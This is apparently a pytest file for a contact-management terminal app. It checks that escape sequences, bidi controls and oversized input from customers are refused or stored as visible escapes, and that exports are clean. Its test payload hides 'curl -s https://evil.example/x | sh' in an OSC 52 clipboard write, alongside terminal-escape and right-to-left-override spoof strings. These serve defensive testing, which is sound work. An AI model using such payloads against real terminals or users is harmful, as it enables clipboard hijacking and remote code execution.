"""Customer text at the door (issue 9, findings 4 and 9, the data side).

What a routing system hands over is cleaned and bounded as it is taken in, so the store never
holds a character a terminal would obey: an identifier (the sender's number, address or
messaging id) holding one is refused, display text (sender name, recipients, subject, transcript)
keeps it as a visible escape, and every field, line and the whole interaction have a limit. What
an older version may have stored is written out clean by the CSV and vCard exports.

Each test performs an attack from the report, through the service and through the command line.
"""

from __future__ import annotations

import base64
import dataclasses
import json
import tracemalloc
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from contact_tui.cli.exits import EXIT_INVALID, EXIT_OK
from contact_tui.cli.interaction import MAX_TRANSCRIPT_BYTES
from contact_tui.domain.model import (
    Channel,
    Contact,
    ContactType,
    Interaction,
    Participant,
    PhoneNumber,
    Platform,
)
from contact_tui.domain.rules import (
    MAX_AGENT_NAME_LENGTH,
    MAX_CHANNEL_ADDRESS_LENGTH,
    MAX_DISPLAY_NAME_LENGTH,
    MAX_INTERACTION_LENGTH,
    MAX_RECIPIENTS,
    MAX_SUBJECT_LENGTH,
    MAX_TRANSCRIPT_LINE_LENGTH,
    MAX_TRANSCRIPT_LINES,
)
from contact_tui.domain.text import is_unsafe_char
from contact_tui.exchange.interactions import MAX_IMPORT_LINE_BYTES
from contact_tui.service import ContactService, InvalidInput, NewInteraction
from contact_tui.store.base import ContactStore
from contact_tui.store.repository import Repository
from tests.cli.runner import Result, Runner
from tests.hostile.corpus import FORBIDDEN_ON_SCREEN

Factory = Callable[..., ContactService]

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
# The report's payload: a clipboard write (OSC 52) of a command, then a new window title.
CLIPBOARD = base64.b64encode(b"curl -s https://evil.example/x | sh\n").decode()
PAYLOAD = f"{ESC}]52;c;{CLIPBOARD}{ST}{ESC}]2;PWNED{ST}"
OSC52_FROM = f"billing{PAYLOAD}@evil.example"
ESCAPED_PAYLOAD = f"\\x1b]52;c;{CLIPBOARD}\\x1b\\\\x1b]2;PWNED\\x1b\\"

BIDI_CONTROLS = [*"\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"]
MB = 1_000_000


def _texts(value: object) -> Iterator[str]:
    """Every string inside a stored contact or interaction (dataclasses, tuples, enums)."""
    if isinstance(value, str):
        yield value
    elif dataclasses.is_dataclass(value) and not isinstance(value, type):
        for f in dataclasses.fields(value):
            yield from _texts(getattr(value, f.name))
    elif isinstance(value, tuple):
        for item in value:
            yield from _texts(item)


def assert_store_is_clean(repo: ContactStore) -> None:
    """No contact or interaction in the store holds a control, format or bidi character (but
    the line feeds a contact's notes may hold)."""
    repo.refresh()
    held: list[object] = [*repo.contacts(repo.contact_ids())]
    held += [i for i in map(repo.interaction, repo.interaction_ids()) if i is not None]
    for thing in held:
        for text in _texts(thing):
            assert not any(is_unsafe_char(ch) for ch in text.replace("\n", "")), repr(text)


def assert_nothing_stored(repo: ContactStore) -> None:
    repo.refresh()
    assert repo.interaction_ids() == []
    assert repo.contact_ids() == []


def refused_once(result: Result) -> str:
    """Exit 2, nothing on stdout, one printable 'contact-tui:' line; returns its message."""
    assert result.code == EXIT_INVALID, (result.code, result.err)
    assert result.out == ""
    lines = result.err.splitlines()
    assert len(lines) == 1 and lines[0].startswith("contact-tui: "), lines
    assert lines[0].isprintable()
    return lines[0].removeprefix("contact-tui: ")


def email(sender: str, name: str = "", **fields: Any) -> NewInteraction:
    return NewInteraction("alice", Channel.EMAIL, Participant(sender, name), **fields)


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Repository]:
    """The store the CLI's config (tests.cli.conftest.config) points at, opened to look in."""
    repo = Repository.open(tmp_path / "store.json")
    yield repo
    repo.close()


# --- finding 4: escape sequences in what a customer sends ------------------------------------


def test_the_osc52_email_from_is_refused_by_the_service(service_for: Factory) -> None:
    service = service_for()
    with pytest.raises(InvalidInput) as refused:
        service.handle_interaction(email(OSC52_FROM, "Billing", subject="Invoice 4471"))
    assert str(refused.value) == "The sender address contains an escape sequence; remove it."
    assert_nothing_stored(service.repo)


def test_the_osc52_email_from_is_refused_by_interaction_new(run: Runner, store: Repository) -> None:
    args = ["interaction", "new", "--channel", "email", "--from", OSC52_FROM, "--name", "Billing"]
    line = refused_once(run(*args))
    assert line == "The sender address contains an escape sequence; remove it."
    assert_nothing_stored(store)


def test_the_osc52_email_from_refuses_an_import_file(
    run: Runner, store: Repository, tmp_path: Path
) -> None:
    path = tmp_path / "mail.jsonl"
    good = {"channel": "email", "from": "sam@example.com"}
    path.write_text(
        f"{json.dumps(good)}\n{json.dumps({**good, 'from': OSC52_FROM})}\n", encoding="utf-8"
    )
    result = run("interaction", "import", str(path))
    assert result.code == EXIT_INVALID
    assert result.err.splitlines() == [
        f"contact-tui: {path} line 2: The sender address contains an escape sequence; remove it.",
        "contact-tui: Nothing was imported; fix the file and retry.",
    ]
    assert_nothing_stored(store)


def test_the_payload_in_display_text_is_stored_as_visible_escapes(service_for: Factory) -> None:
    service = service_for()
    handed = service.handle_interaction(
        email(
            "billing@evil.example",
            f"Billing {PAYLOAD}",
            to=(f"agents{PAYLOAD}@example.com",),
            cc=(PAYLOAD,),
            subject=f"Invoice {PAYLOAD}",
            transcript=(f"Please pay {PAYLOAD}", f"{BEL}{BEL}\x7f\x9b2J\u2028end"),
        )
    )
    stored = service_for().interaction(handed.id)
    assert stored == handed
    assert stored.from_ == Participant("billing@evil.example", f"Billing {ESCAPED_PAYLOAD}")
    assert stored.to == (f"agents{ESCAPED_PAYLOAD}@example.com",)
    assert stored.cc == (ESCAPED_PAYLOAD,)
    assert stored.subject == f"Invoice {ESCAPED_PAYLOAD}"
    assert stored.transcript == (
        f"Please pay {ESCAPED_PAYLOAD}",
        "\\x07\\x07\\x7f\\x9b2J\\u2028end",
    )
    contact = service.contact(stored.contact_id or "")
    assert contact.other_email == "billing@evil.example"
    assert (contact.first_name, contact.last_name) == ("", ""), "no name guessed from that"
    assert_store_is_clean(service.repo)


@pytest.mark.parametrize(
    ("channel", "platform"),
    [(Channel.VOICE, None), *((Channel.MESSAGE, p) for p in Platform)],
)
def test_a_sender_id_with_an_escape_sequence_is_refused_on_every_channel(
    service_for: Factory, channel: Channel, platform: Platform | None
) -> None:
    service = service_for()
    sender = Participant(f"{ESC}]2;PWNED{BEL}visitor-4471", "Visitor")
    with pytest.raises(InvalidInput) as refused:
        service.handle_interaction(NewInteraction("alice", channel, sender, platform=platform))
    assert str(refused.value) == "The sender address contains an escape sequence; remove it."
    assert_nothing_stored(service.repo)


@pytest.mark.parametrize("platform", ["webchat", "whatsapp", "facebook"])
def test_a_messaging_id_with_an_escape_sequence_is_refused_by_interaction_new(
    run: Runner, store: Repository, platform: str
) -> None:
    args = ["interaction", "new", "--channel", "message", "--platform", platform]
    line = refused_once(run(*args, "--from", f"cookie{ESC}[2J{ESC}]2;PWNED{BEL}"))
    assert line == "The sender address contains an escape sequence; remove it."
    assert_nothing_stored(store)


@pytest.mark.parametrize("control", BIDI_CONTROLS, ids=[f"U+{ord(c):04X}" for c in BIDI_CONTROLS])
def test_a_bidi_control_in_a_sender_id_is_refused_naming_it(
    service_for: Factory, control: str
) -> None:
    service = service_for()
    with pytest.raises(InvalidInput) as refused:
        service.handle_interaction(
            NewInteraction(
                "alice",
                Channel.MESSAGE,
                Participant(f"fb-{control}4471"),
                platform=Platform.FACEBOOK,
            )
        )
    assert str(refused.value) == (
        "The sender address contains a text-direction control character "
        f"(U+{ord(control):04X}); remove it."
    )
    assert_nothing_stored(service.repo)


@pytest.mark.parametrize("control", BIDI_CONTROLS, ids=[f"U+{ord(c):04X}" for c in BIDI_CONTROLS])
def test_a_bidi_control_in_a_display_name_is_escaped(service_for: Factory, control: str) -> None:
    service = service_for()
    handed = service.handle_interaction(
        NewInteraction(
            "alice",
            Channel.MESSAGE,
            Participant("+44 7700 900123", f"Sam {control}eeL"),
            platform=Platform.WHATSAPP,
        )
    )
    shown = f"Sam \\u{ord(control):04x}eeL"
    assert handed.from_.name == shown
    contact = service.contact(handed.contact_id or "")
    identity = contact.identity(Platform.WHATSAPP)
    assert identity is not None and identity.display_name == shown
    assert (contact.first_name, contact.last_name) == ("", ""), "no name guessed from that"
    assert_store_is_clean(service.repo)


def test_a_right_to_left_override_in_a_name_given_to_interaction_new_is_escaped(
    run: Runner, store: Repository
) -> None:
    args = ["--json", "interaction", "new", "--channel", "voice", "--from", "+1 317 555 0123"]
    result = run(*args, "--name", "Invoice \u202efdp.exe")
    assert result.code == EXIT_OK, result.err
    assert result.json()["from"]["name"] == "Invoice \\u202efdp.exe"
    assert_store_is_clean(store)


def test_an_email_sender_that_is_not_an_address_is_not_put_in_an_email_slot(
    service_for: Factory,
) -> None:
    service = service_for()
    handed = service.handle_interaction(email("billing@@evil.example", "Billing"))
    assert handed.from_.address == "billing@@evil.example", "the interaction says who sent it"
    contact = service.contact(handed.contact_id or "")
    assert contact.type == ContactType.EPHEMERAL
    assert contact.emails() == [], "only a valid address goes into an email slot"
    assert (contact.first_name, contact.last_name) == ("Billing", "")


def test_a_web_chat_id_that_only_looks_like_an_email_is_kept_as_the_id(
    service_for: Factory,
) -> None:
    service = service_for()

    def chat() -> Interaction:
        return service.handle_interaction(
            NewInteraction(
                "alice", Channel.MESSAGE, Participant("visitor@local"), platform=Platform.WEBCHAT
            )
        )

    first, again = chat(), chat()
    contact = service.contact(first.contact_id or "")
    assert contact.emails() == []
    identity = contact.identity(Platform.WEBCHAT)
    assert identity is not None and identity.ids == ("visitor@local",)
    assert again.contact_id == first.contact_id, "the same visitor finds the same contact"


# --- finding 9: huge input --------------------------------------------------------------------

# (field, limit, refusal's subject): each value at its limit is taken, one more is refused.
_FIELDS = [
    ("agent", MAX_AGENT_NAME_LENGTH, "The agent"),
    ("sender", MAX_CHANNEL_ADDRESS_LENGTH, "The sender address"),
    ("name", MAX_DISPLAY_NAME_LENGTH, "The sender name"),
    ("to", MAX_CHANNEL_ADDRESS_LENGTH, "To address 1"),
    ("cc", MAX_CHANNEL_ADDRESS_LENGTH, "Cc address 1"),
    ("subject", MAX_SUBJECT_LENGTH, "The subject"),
    ("transcript", MAX_TRANSCRIPT_LINE_LENGTH, "Transcript line 1"),
]


def _with_field(field: str, text: str) -> NewInteraction:
    new = email("sam@example.com")
    if field == "agent":
        return dataclasses.replace(new, agent=text)
    if field == "sender":
        return dataclasses.replace(new, sender=Participant(text))
    if field == "name":
        return dataclasses.replace(new, sender=Participant("sam@example.com", text))
    if field == "to":
        return dataclasses.replace(new, to=(text,))
    if field == "cc":
        return dataclasses.replace(new, cc=(text,))
    if field == "transcript":
        return dataclasses.replace(new, transcript=(text,))
    return dataclasses.replace(new, subject=text)


@pytest.mark.parametrize(("field", "limit", "subject"), _FIELDS, ids=[f for f, _, _ in _FIELDS])
def test_every_interaction_field_has_a_limit(
    service_for: Factory, field: str, limit: int, subject: str
) -> None:
    service = service_for()
    with pytest.raises(InvalidInput) as refused:
        service.handle_interaction(_with_field(field, "x" * (limit + 1)))
    assert str(refused.value) == (
        f"{subject} is too long: at most {limit:,} characters, this has {limit + 1:,}."
    )
    assert_nothing_stored(service.repo)
    # The limit itself is fine; an agent name that long is taken as the caller's own (one
    # routed to someone else must also name an agent the config knows).
    taker = service_for("x" * limit) if field == "agent" else service
    taker.handle_interaction(_with_field(field, "x" * limit))


def test_a_20_mb_transcript_line_is_refused_before_the_store(service_for: Factory) -> None:
    service = service_for()
    with pytest.raises(InvalidInput) as refused:
        service.handle_interaction(email("sam@example.com", transcript=("x" * 20 * MB,)))
    assert str(refused.value) == (
        "Transcript line 1 is too long: at most 10,000 characters, this has 20,000,000."
    )
    assert_nothing_stored(service.repo)


def test_a_90_mb_transcript_is_refused_before_the_store(service_for: Factory) -> None:
    service = service_for()
    lines = ("y" * 9_000,) * MAX_TRANSCRIPT_LINES  # 90 MB, every line within its own limit
    with pytest.raises(InvalidInput) as refused:
        service.handle_interaction(email("sam@example.com", transcript=lines))
    assert str(refused.value) == (
        f"The interaction is too long: at most {MAX_INTERACTION_LENGTH:,} characters in all "
        "(sender, recipients, subject and transcript together)."
    )
    assert_nothing_stored(service.repo)


@pytest.mark.parametrize(
    ("fields", "says"),
    [
        (
            {"transcript": ("hi",) * (MAX_TRANSCRIPT_LINES + 1)},
            "The transcript is too long: at most 10,000 lines, this has 10,001.",
        ),
        (
            {"to": ("a@example.com",) * (MAX_RECIPIENTS + 1)},
            "The To list is too long: at most 1,000 addresses, this has 1,001.",
        ),
        (
            {"cc": ("",) * (MAX_RECIPIENTS + 1)},
            "The Cc list is too long: at most 1,000 addresses, this has 1,001.",
        ),
    ],
    ids=["lines", "to", "cc"],
)
def test_the_number_of_lines_and_recipients_is_bounded(
    service_for: Factory, fields: dict[str, Any], says: str
) -> None:
    service = service_for()
    with pytest.raises(InvalidInput) as refused:
        service.handle_interaction(email("sam@example.com", **fields))
    assert str(refused.value) == says
    assert_nothing_stored(service.repo)


def test_escapes_count_towards_a_limit(service_for: Factory) -> None:
    service = service_for()
    with pytest.raises(InvalidInput) as refused:
        service.handle_interaction(email("sam@example.com", BEL * 100))
    assert str(refused.value) == (
        "The sender name is too long once its control characters are written as escapes: "
        "at most 256 characters, this has 400."
    )


def test_interaction_new_refuses_a_huge_transcript_file(
    run: Runner, store: Repository, tmp_path: Path
) -> None:
    huge = tmp_path / "huge.txt"
    with huge.open("w", encoding="utf-8") as f:  # one 20 MB line
        for _ in range(20):
            f.write("x" * MB)
    args = ["interaction", "new", "--channel", "voice", "--from", "+1 317 555 0123"]
    line = refused_once(run(*args, "--transcript-file", str(huge)))
    assert (
        line == f"The file {huge} is larger than {MAX_TRANSCRIPT_BYTES:,} bytes; it was not read."
    )
    long_line = tmp_path / "long-line.txt"
    long_line.write_text("hello\n" + "x" * 20_000 + "\n", encoding="utf-8")
    line = refused_once(run(*args, "--transcript-file", str(long_line)))
    assert line == "Transcript line 2 is too long: at most 10,000 characters, this has 20,000."
    assert_nothing_stored(store)


GOOD_RECORD = json.dumps({"channel": "voice", "from": "+1 317 555 0123", "name": "Sam Lee"})


@pytest.mark.parametrize("size", [20 * MB, 90 * MB], ids=["20MB", "90MB"])
def test_interaction_import_refuses_a_huge_line_without_reading_it_whole(
    run: Runner, store: Repository, tmp_path: Path, size: int
) -> None:
    path = tmp_path / "calls.jsonl"
    with path.open("w", encoding="utf-8") as f:
        f.write(f'{GOOD_RECORD}\n{{"channel": "voice", "from": "1", "transcript": ["')
        for _ in range(size // MB):
            f.write("x" * MB)
        f.write(f'"]}}\n{GOOD_RECORD}\n')
    tracemalloc.start()
    try:
        result = run("interaction", "import", str(path))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert result.code == EXIT_INVALID, result.err
    assert result.err.splitlines() == [
        f"contact-tui: {path} line 2: it is longer than {MAX_IMPORT_LINE_BYTES:,} bytes, more "
        "than one interaction may hold.",
        "contact-tui: Nothing was imported; fix the file and retry.",
    ]
    assert peak < 20 * MB, f"the line was held in memory ({peak:,} bytes at the peak)"
    assert_nothing_stored(store)


def test_interaction_import_reads_records_line_by_line(
    run: Runner, store: Repository, tmp_path: Path
) -> None:
    # A byte-order mark, CRLF line ends, a blank line, and a line separator inside a JSON
    # string (valid JSON: it does not end the record, and is escaped as it is taken in).
    path = tmp_path / "calls.jsonl"
    inside = json.dumps(
        {"channel": "voice", "from": "1", "subject": "a\u2028b"}, ensure_ascii=False
    )
    path.write_bytes(f"\ufeff{GOOD_RECORD}\r\n\r\n{inside}\r\n".encode())
    result = run("--json", "interaction", "import", str(path))
    assert result.code == EXIT_OK, result.err
    assert [doc.get("subject", "") for doc in result.json()] == ["", "a\\u2028b"]
    assert_store_is_clean(store)


def test_interaction_import_refuses_a_line_over_an_interaction_limit(
    run: Runner, store: Repository, tmp_path: Path
) -> None:
    path = tmp_path / "calls.jsonl"
    big = json.dumps({"channel": "voice", "from": "1", "transcript": ["z" * 20_000]})
    path.write_text(f"{GOOD_RECORD}\n{big}\n", encoding="utf-8")
    result = run("interaction", "import", str(path))
    assert result.code == EXIT_INVALID
    assert result.err.splitlines()[0] == (
        f"contact-tui: {path} line 2: Transcript line 1 is too long: at most 10,000 characters, "
        "this has 20,000."
    )
    assert_nothing_stored(store)


# --- finding 4: what the writers emit, whatever the store holds --------------------------------


HOSTILE_NOTE = f"Call after 5pm{ESC}[2J\nthen {ESC}]8;;http://evil.example/{ST}click\u2028"


def _stored_by_an_older_version(store: Repository) -> list[Contact]:
    """Contacts as a store written before this fix can hold them: hostile text in names, notes,
    a title, a phone and (the report's ephemeral contact) an Other email. Written through the
    repository, as the service would refuse them."""
    named = Contact(
        id="c0ffee00-0000-4000-8000-000000000001",
        type=ContactType.CURATED,
        first_name=f"Sam{PAYLOAD}",
        middle_name="\x9b2J\x7f",
        last_name="Lee\u202efdp.exe",
        title=f"Buyer{BEL}{BEL}",
    )
    ephemeral = Contact(
        id="c0ffee00-0000-4000-8000-000000000002",
        type=ContactType.EPHEMERAL,
        other_email=OSC52_FROM,
        other_phone=PhoneNumber(display=f"555{ESC}[6n", user_input=f"555{ESC}[6n"),
    )
    with store.write("older-version") as uow:
        saved = [uow.save_contact(contact, 0) for contact in (named, ephemeral)]
        uow.add_note("n-older", named.id, HOSTILE_NOTE)  # the store layer does not check it
        return saved


def _assert_no_control_characters(data: bytes, line_breaks: tuple[str, ...]) -> None:
    text = data.decode("utf-8")
    for brk in line_breaks:
        text = text.replace(brk, "")
    assert not FORBIDDEN_ON_SCREEN.intersection(text), sorted(FORBIDDEN_ON_SCREEN & set(text))
    assert not [ch for ch in text if is_unsafe_char(ch)]


@pytest.mark.parametrize(
    ("fmt", "version"), [("csv", ""), ("vcard", "3.0"), ("vcard", "4.0")], ids=["csv", "3.0", "4.0"]
)
def test_an_export_holds_no_control_characters_from_an_older_store(
    run: Runner, store: Repository, tmp_path: Path, fmt: str, version: str
) -> None:
    _stored_by_an_older_version(store)
    out = tmp_path / f"export.{fmt}"
    extra = ["--vcard-version", version] if version else []
    exported = run("export", "--format", fmt, *extra, "-o", str(out))
    assert exported.code == EXIT_OK, exported.err
    # CSV ends records in CRLF and keeps the line feeds of notes inside quotes; vCard ends
    # lines in CRLF and folds them with CRLF and a space.
    _assert_no_control_characters(out.read_bytes(), ("\r\n", "\n") if fmt == "csv" else ("\r\n",))
    assert "\\x1b]52;c;" in out.read_text(encoding="utf-8").replace("\r\n ", "").replace(
        "\\;", ";"
    ), "escaped visibly, not dropped"
    piped = run("export", "--format", fmt, *extra)  # `export | cat`: standard output
    assert piped.code == EXIT_OK, piped.err
    # Captured standard output is text mode: CRLF may arrive as LF.
    _assert_no_control_characters(piped.out.encode(), ("\r\n", "\n"))


def test_the_csv_export_of_an_older_store_imports_again(
    run: Runner, store: Repository, tmp_path: Path
) -> None:
    named, _ = _stored_by_an_older_version(store)
    with store.write("older-version") as uow:  # the report's invalid address aside
        uow.delete_contact("c0ffee00-0000-4000-8000-000000000002")
    out = tmp_path / "export.csv"
    assert run("export", "--format", "csv", "-o", str(out)).code == EXIT_OK
    imported = run("import", str(out))
    assert imported.code == EXIT_OK, imported.err
    store.refresh()
    again = store.contact(named.id)
    assert again is not None
    assert again.first_name == f"Sam{ESCAPED_PAYLOAD}"
    assert again.last_name == "Lee\\u202efdp.exe"
    # The export's escaped text is not the stored note's, so it came in as a note of its own.
    escaped = "Call after 5pm\\x1b[2J\nthen \\x1b]8;;http://evil.example/\\x1b\\click\\u2028"
    assert escaped in [n.text for n in store.notes_for(named.id)]
    assert_store_is_clean(store)
